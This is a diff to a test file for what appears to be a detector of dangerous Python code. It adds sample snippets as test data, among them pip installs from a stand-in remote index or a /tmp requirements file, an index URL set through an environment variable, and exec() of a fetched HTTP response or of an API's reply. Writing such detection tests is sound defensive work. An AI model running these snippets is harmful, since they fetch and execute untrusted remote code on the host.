@@ -111,6 +111,9 @@ describe('the checks hold indirect ways to dangerous functions', () => {
       'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy", "--index-url=https://e.example"])\n',
     ],
     ['requirements from elsewhere', 'import os\nos.system("pip install -r https://e.example/requirements.txt")\n'],
+    ['requirements of another folder', 'import os\nos.system("pip install -r /tmp/requirements.txt")\n'],
+    ['an index in a variable', 'import os\nos.environ["PIP_INDEX_URL"] = "https://e.example"\n'],
+    ['a whole response as code', node('exec(requests.get(x).text)', 'import requests')],
     [
       'a computed name after a well-known one',
       'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy", input()])\n',
@@ -218,11 +221,14 @@ describe('the checks do not hold', () => {
     ],
     [
       'code that a model answers',
-      node('exec(requests.post("https://api.openai.com/v1/chat/completions", json=x).text)', 'import requests'),
+      node(
+        'exec(requests.post("https://api.openai.com/v1/chat/completions", json=x).json()["choices"][0])',
+        'import requests',
+      ),
     ],
     [
-      'code from an address that the user enters',
-      node('exec(requests.post(f"http://{x}:8080/v1/chat", json=x).text)', 'import requests'),
+      'a part of what a server of the user answers',
+      node('exec(requests.post(f"http://{x}:8080/v1/chat", json=x).json()["answer"])', 'import requests'),
     ],
     [
       'a credential in a call that names files',
